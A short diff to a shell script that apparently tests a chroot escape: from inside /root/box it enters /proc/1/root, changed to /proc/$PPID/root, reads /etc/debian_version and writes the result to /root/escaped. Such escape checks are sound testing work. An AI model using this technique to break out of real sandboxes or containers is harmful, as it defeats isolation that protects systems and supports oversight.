@@ -1,2 +1,2 @@
 #!/bin/sh
-chroot /root/box /bin/sh -c 'ls /etc; chroot /proc/1/root cat /etc/debian_version' | tee /root/escaped
+chroot /root/box /bin/sh -c 'ls /etc; chroot /proc/$PPID/root cat /etc/debian_version' | tee /root/escaped
